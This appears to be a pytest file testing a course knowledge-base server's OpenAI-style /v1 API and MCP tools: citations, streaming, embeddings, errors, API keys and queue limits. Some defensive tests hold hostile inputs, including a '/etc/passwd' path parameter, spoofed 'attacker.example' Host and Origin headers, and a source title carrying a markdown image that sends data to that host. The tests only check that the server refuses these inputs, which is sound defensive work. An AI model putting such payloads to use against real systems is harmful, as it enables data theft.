"""Other programs ask the course: `kb serve`'s /v1 and /mcp, and `kb mcp` over stdio (issue 15).

The official `openai` and `mcp` clients against real `kb serve` processes on loopback, over a real
KB of the sample course. The model is the deterministic stand-in (tests/hostile_llm.py): what is
tested here is the surface (shapes, spans, links, errors, limits, keys, the queue), not the
model's judgement; tests/test_api_real.py asks the real default model.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import threading
import time
import urllib.error
import urllib.request

import numpy as np
import pytest
from hostile_llm import HostileLLM, StallingLLM
from test_signals import free_port, start_serve

from kb import KB
from kb.answer import MAX_QUESTION_CHARS
from tests.helpers import COURSE, TEST_PLUGINS, TESTS, run_kb

openai = pytest.importorskip("openai")
mcp_client = pytest.importorskip("mcp.client.client")

KEY = "test-key-0123456789abcdef"
QUESTION = "How is rainfall measured?"


@pytest.fixture(scope="module")
def kb_file(tmp_path_factory):
    db = tmp_path_factory.mktemp("api") / "course.db"
    assert run_kb("ingest", str(db), str(COURSE), "--embedder", "hash", env_extra=TEST_PLUGINS).returncode == 0
    return db


@pytest.fixture(scope="module")
def server(kb_file, tmp_path_factory):
    """One `kb serve` on 127.0.0.1 answering through the stand-in model, for the whole module."""
    log = tmp_path_factory.mktemp("api-log") / "serve.log"
    with HostileLLM() as llm:
        port = free_port()
        proc = start_serve(kb_file, port, "--llm-url", llm.url, log=log)
        try:
            yield f"http://127.0.0.1:{port}", log
        finally:
            proc.terminate()
            proc.wait(timeout=30)
    assert "Traceback" not in log.read_text()


@pytest.fixture
def client(server):
    return openai.OpenAI(base_url=server[0] + "/v1", api_key="unused", max_retries=0, timeout=120)


def chunk_ids(db):
    with KB.open(db, readonly=True) as kb:
        return dict(kb.conn.execute("SELECT id, text FROM chunks"))


def check_cited(content, annotations, citations, db):
    """Every [n] in the answer spanned by an annotation whose URL and title are its citation's, and
    every citation a chunk of the KB."""
    body = content.split("\n\nSources:\n", 1)[0]
    assert "\n\nSources:\n[1] " in content
    assert annotations and citations
    by_index = {c["index"]: c for c in citations}
    spans = set()
    for note in annotations:
        note = note if isinstance(note, dict) else note.model_dump()
        assert note["type"] == "url_citation"
        span = note["url_citation"]
        marker = content[span["start_index"] : span["end_index"]]
        index = int(marker.strip("[]"))
        assert marker == f"[{index}]" and index in by_index
        assert span["url"] == by_index[index]["url"] and span["title"] == by_index[index]["title"]
        spans.add(span["start_index"])
    markers = {i for i in range(len(body)) if body.startswith("[", i) and body[i + 1 : i + 2].isdigit()}
    assert markers == spans  # each marker in the answer has its span, and no span points elsewhere
    texts = chunk_ids(db)
    for record in citations:
        assert set(record) == {
            "index", "chunk_id", "title", "kind", "page", "slide", "heading", "start_s", "end_s", "url", "quote",
            "score",
        }  # fmt: skip
        assert record["chunk_id"] in texts
        assert record["url"].startswith("http://127.0.0.1:")
        assert f"[{record['index']}] {record['title']}" in content


def test_models_lists_each_kb(client):
    models = client.models.list()
    assert [m.id for m in models.data] == ["kb:course"]
    assert models.data[0].owned_by == "kb"


def test_a_chat_completion_keeps_its_citations(client, kb_file):
    response = client.chat.completions.create(model="kb:course", messages=[{"role": "user", "content": QUESTION}])
    choice = response.choices[0]
    assert choice.finish_reason == "stop"
    message = choice.message
    assert message.role == "assistant"
    check_cited(message.content, message.annotations, message.model_extra["citations"], kb_file)
    assert response.model_extra["kb"]["abstained"] is False
    # The deep link is served by this server (the source view, at the passage).
    url = message.model_extra["citations"][0]["url"]
    with urllib.request.urlopen(url, timeout=30) as page:
        assert page.status == 200


def test_a_stream_carries_annotations_and_citations_on_its_last_chunk(client, kb_file):
    chunks = list(
        client.chat.completions.create(
            model="kb:course", messages=[{"role": "user", "content": QUESTION}], stream=True, extra_body={"k": 5}
        )
    )
    assert chunks[0].choices[0].delta.role == "assistant"
    content = "".join(c.choices[0].delta.content or "" for c in chunks)
    last = chunks[-1]
    assert last.choices[0].finish_reason == "stop"
    assert all(c.choices[0].finish_reason is None for c in chunks[:-1])
    extra = last.choices[0].delta.model_extra
    check_cited(content, extra["annotations"], extra["citations"], kb_file)
    assert last.model_extra["kb"]["abstained"] is False


def test_a_follow_up_is_searched_with_its_conversation(client):
    messages = [
        {"role": "user", "content": "What is a tipping-bucket rain gauge?"},
        {"role": "assistant", "content": "A gauge that tips [1].\n\nSources:\n[1] Field guide"},
        {"role": "user", "content": "and how is it calibrated?"},
    ]
    response = client.chat.completions.create(model="kb:course", messages=messages)
    asked = response.model_extra["kb"]["question"]
    # The stand-in cannot rewrite: kb searches the earlier question with the follow-up.
    assert "tipping-bucket" in asked and "calibrated" in asked


def test_embeddings_are_the_kb_models_query_vectors(client, kb_file, hash_embedder):
    from kb.plugins import get_embedder
    from kb.search import embed_query

    texts = ["rain gauge", "How is river flow gauged?"]
    got = client.embeddings.create(model="kb:course", input=texts)  # the SDK asks for base64
    plain = client.embeddings.create(model="kb:course", input=texts, encoding_format="float")
    embedder = get_embedder(hash_embedder)
    for item, same in zip(got.data, plain.data):
        want = np.asarray(embed_query(embedder, texts[item.index]), dtype=np.float32)
        for vector in (np.asarray(item.embedding), np.asarray(same.embedding)):
            cosine = float(vector @ want / np.linalg.norm(vector) / np.linalg.norm(want))
            assert cosine == pytest.approx(1.0, abs=1e-6)


def post(url, data, headers=None):
    """(status, headers, JSON body) of a raw POST, for what the official client would not send."""
    request = urllib.request.Request(url, data=data, headers={"Content-Type": "application/json", **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, response.headers, json.loads(response.read())
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers, json.loads(exc.read())


def test_bad_requests_get_openai_errors(client, server):
    with pytest.raises(openai.NotFoundError) as caught:
        client.chat.completions.create(model="kb:nope", messages=[{"role": "user", "content": QUESTION}])
    assert caught.value.body["type"] == "not_found_error" and "kb:course" in caught.value.body["message"]
    with pytest.raises(openai.APIStatusError) as caught:
        client.chat.completions.create(model="kb:course", messages=[{"role": "user", "content": "x" * 100_000}])
    assert caught.value.status_code == 413
    assert f"the limit is {MAX_QUESTION_CHARS:,}" in caught.value.body["message"]
    with pytest.raises(openai.BadRequestError):
        client.chat.completions.create(model="kb:course", messages=[{"role": "assistant", "content": "hi"}])
    with pytest.raises(openai.BadRequestError) as caught:
        client.chat.completions.create(
            model="kb:course", messages=[{"role": "user", "content": QUESTION}], extra_body={"k": 0}
        )
    assert caught.value.body["param"] == "k"
    with pytest.raises(openai.BadRequestError) as caught:  # a model tier must be a built-in name, never a path
        client.chat.completions.create(
            model="kb:course", messages=[{"role": "user", "content": QUESTION}], extra_body={"llm": "/etc/passwd"}
        )
    assert caught.value.body["param"] == "llm"
    base = server[0]
    status, _, body = post(base + "/v1/chat/completions", b'{"model": "kb:course", "messages": [')
    assert status == 400 and body["error"]["message"].startswith("The request body is not valid JSON")
    status, _, body = post(base + "/v1/chat/completions", b" " * (300 * 1024))
    assert status == 413 and "too large" in body["error"]["message"]
    status, _, body = post(base + "/v1/nope", b"{}")
    assert status == 404 and body["error"]["type"] == "not_found_error"
    # SQL is not a surface here: the route does not exist.
    status, _, _ = post(base + "/v1/sql", b'{"sql": "select 1"}')
    assert status == 404


def test_loopback_surfaces_refuse_other_hosts_and_origins(server):
    """Without a key, /v1 answers only requests addressed to this machine (no DNS rebinding)."""
    base = server[0]
    body = json.dumps({"model": "kb:course", "input": "rain"}).encode()
    assert post(base + "/v1/embeddings", body)[0] == 200
    assert post(base + "/v1/embeddings", body, {"Host": "attacker.example"})[0] == 403
    assert post(base + "/v1/embeddings", body, {"Origin": "http://attacker.example"})[0] == 403
    assert post(base + "/mcp", b"{}", {"Origin": "http://attacker.example"})[0] == 403


async def _mcp_session(target, check):
    async with mcp_client.Client(target) as session:
        return await check(session)


async def _exercise_mcp(session):
    tools = {t.name: t for t in (await session.list_tools()).tools}
    assert set(tools) == {"search", "ask", "get_passage", "list_sources"}
    hits = (await session.call_tool("search", {"query": "tipping-bucket gauge", "k": 3})).structured_content["result"]
    assert len(hits) == 3 and {"chunk_id", "title", "url", "text", "score", "page", "heading"} <= set(hits[0])
    answer = (await session.call_tool("ask", {"question": QUESTION})).structured_content
    assert answer["abstained"] is False and "[1]" in answer["answer"]
    assert answer["citations"][0]["index"] == 1 and answer["citations"][0]["chunk_id"]
    passage = (await session.call_tool("get_passage", {"chunk_id": hits[0]["chunk_id"]})).structured_content
    assert passage["chunk_id"] == hits[0]["chunk_id"] and passage["text"]
    sources = (await session.call_tool("list_sources", {})).structured_content["result"]
    assert sources and all(s["resource"].startswith("kb://course/sources/") for s in sources)
    resources = (await session.list_resources()).resources
    assert {str(r.uri) for r in resources} == {s["resource"] for s in sources}
    read = await session.read_resource(sources[0]["resource"])
    assert read.contents[0].text
    errors = [
        await session.call_tool("get_passage", {"chunk_id": 10**9}),
        await session.call_tool("get_passage", {"chunk_id": "one"}),
        await session.call_tool("search", {"query": "rain", "k": 0}),
        await session.call_tool("ask", {"question": "x" * 100_000}),
        await session.call_tool("ask", {"question": QUESTION, "course": "other"}),
    ]
    for result in errors:
        assert result.is_error, result
    assert "no passage" in errors[0].content[0].text
    # Still serving after the errors.
    assert not (await session.call_tool("list_sources", {})).is_error
    return hits


def test_mcp_over_streamable_http(server):
    hits = asyncio.run(_mcp_session(server[0] + "/mcp", _exercise_mcp))
    assert hits[0]["url"].startswith(server[0] + "/")


def test_mcp_over_stdio(kb_file):
    from mcp.client.stdio import StdioServerParameters

    with HostileLLM() as llm:
        env = {**os.environ, **TEST_PLUGINS, "PYTHONPATH": str(TESTS)}
        params = StdioServerParameters(
            command=sys.executable, args=["-m", "kb", "mcp", str(kb_file), "--llm-url", llm.url], env=env
        )
        hits = asyncio.run(_mcp_session(params, _exercise_mcp))
    assert hits[0]["url"].startswith("file://")  # the KB's own link: a desktop agent opens files


def test_non_loopback_surfaces_need_the_key():
    """Bound beyond loopback without --api-key, /v1 and /mcp are off (the gateway's rule, in process)."""
    from datasette_plugins.kb_plugin.gateway import Gateway, is_loopback

    assert is_loopback("127.0.0.1") and is_loopback("::1") and is_loopback("[::1]") and is_loopback("localhost")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.168.1.5") and not is_loopback("example.org")
    gateway = Gateway(None, None, "0.0.0.0", "http://0.0.0.0:8001")
    status, message, _ = gateway.refusal({"headers": [(b"host", b"127.0.0.1:8001")]})
    assert status == 403 and "--api-key" in message


@pytest.fixture(scope="module")
def keyed(kb_file, tmp_path_factory):
    """A `kb serve` bound beyond loopback with --api-key, answering through a model that stalls."""
    log = tmp_path_factory.mktemp("api-keyed") / "serve.log"
    with StallingLLM() as llm:
        port = free_port()
        proc = start_serve(kb_file, port, "--host", "0.0.0.0", "--api-key", KEY, "--llm-url", llm.url, log=log)
        try:
            yield f"http://127.0.0.1:{port}", llm, log
        finally:
            proc.terminate()
            proc.wait(timeout=30)
    assert "Traceback" not in log.read_text()


def test_a_non_loopback_server_needs_its_key(keyed):
    base = keyed[0]
    for key in ("", "wrong-key", KEY[:-1], KEY + "x"):
        bad = openai.OpenAI(base_url=base + "/v1", api_key=key or "-", max_retries=0)
        with pytest.raises(openai.AuthenticationError):
            bad.models.list()
    status, headers, _ = post(base + "/mcp", b"{}")
    assert status == 401 and headers["WWW-Authenticate"] == "Bearer"
    good = openai.OpenAI(base_url=base + "/v1", api_key=KEY, max_retries=0)
    assert [m.id for m in good.models.list().data] == ["kb:course"]


def test_a_flood_beyond_the_queue_is_told_to_retry_and_the_server_keeps_serving(keyed):
    from datasette_plugins.kb_plugin.engine import MAX_WAITING

    base, llm, log = keyed
    client = openai.OpenAI(base_url=base + "/v1", api_key=KEY, max_retries=0, timeout=120)
    flood = MAX_WAITING + 4
    results: list = []

    def ask(i: int) -> None:
        try:
            client.chat.completions.create(model="kb:course", messages=[{"role": "user", "content": f"{QUESTION} {i}"}])
            results.append(200)
        except openai.APIStatusError as exc:
            results.append((exc.status_code, exc.response.headers.get("retry-after")))

    threads = [threading.Thread(target=ask, args=(i,), daemon=True) for i in range(flood)]
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + 120
    while len(results) < flood - MAX_WAITING:  # the turned-away ones answer at once
        assert time.monotonic() < deadline, (results, log.read_text())
        time.sleep(0.05)
    refused = list(results)
    assert len(refused) == flood - MAX_WAITING
    for status, retry_after in refused:
        assert status == 503 and int(retry_after) >= 1
    llm.server.release.set()  # the model answers (nothing) at last: the queue drains
    for thread in threads:
        thread.join(timeout=180)
    assert len(results) == flood
    assert [m.id for m in client.models.list().data] == ["kb:course"]
    assert client.embeddings.create(model="kb:course", input="rain").data


def _answer(text, titles):
    from kb.types import Answer, Evidence, Hit, Locator, SourceRef

    cited = [
        Evidence(key=i, hit=Hit(i, 100 + i, 0.5, f"Passage {i}.", SourceRef(f"file:///c/{i}.pdf", t, "pdf"),
                                Locator(page=i), f"file:///c/{i}.pdf#page={i}"), score=6.0, quotes=[f"Passage {i}."])
        for i, t in enumerate(titles, 1)
    ]  # fmt: skip
    return Answer(question="q?", text=text, abstained=False, evidence=cited, cited=cited)


def test_grouped_markers_are_split_and_every_span_is_its_marker():
    from kb.chat import reply

    made = reply(_answer("Rain is measured with gauges [1, 2]. Snow too [2].", ["Notes", "Guide"]), lambda h: h.link)
    assert made.text == "Rain is measured with gauges [1][2]. Snow too [2]."
    spans = [(a["url_citation"]["start_index"], a["url_citation"]["end_index"]) for a in made.annotations]
    assert [made.content[s:e] for s, e in spans] == ["[1]", "[2]", "[2]"]
    assert made.content.endswith(
        "Sources:\n[1] Notes, page 1: file:///c/1.pdf#page=1\n[2] Guide, page 2: file:///c/2.pdf#page=2"
    )


def test_a_hostile_title_reaches_no_client_as_an_image_or_link():
    from kb.chat import reply

    title = "Notes ![x](http://attacker.example/?q=SECRET) see http://attacker.example/more"
    made = reply(_answer("Rain falls [1].", [title]), lambda h: h.link)
    assert "attacker.example" not in made.content and "![" not in made.content
    assert "attacker.example" not in json.dumps(made.citations + made.annotations)


def test_a_follow_up_rewrite_is_checked_in_code():
    from kb.followup import Turn, fallback, parse_rewrite

    asked = "and how is it measured?"
    assert parse_rewrite('{"question": "How is soil moisture measured?"}', asked) == "How is soil moisture measured?"
    # The small model's usual slip: the earlier question again, which no longer asks what was asked.
    assert parse_rewrite('{"question": "What is soil moisture?"}', asked) is None
    assert parse_rewrite('{"question": "How is it measured? And why?"}', asked) is None
    assert parse_rewrite('{"quotes": []}', asked) is None and parse_rewrite("not json", asked) is None
    history = [Turn("user", "What is soil moisture?"), Turn("assistant", "Water in the soil [1].")]
    assert fallback(history, asked) == "What is soil moisture? and how is it measured?"


def test_a_file_named_like_an_api_path_is_refused(kb_file, tmp_path):
    """Datasette would serve v1.db at /v1, where the gateway answers: kb serve says so instead."""
    import shutil

    named = tmp_path / "v1.db"
    shutil.copy(kb_file, named)
    proc = run_kb("serve", str(named), "--port", str(free_port()), timeout=120)
    assert proc.returncode != 0 and "would be hidden by kb serve's /v1; rename it" in proc.stderr
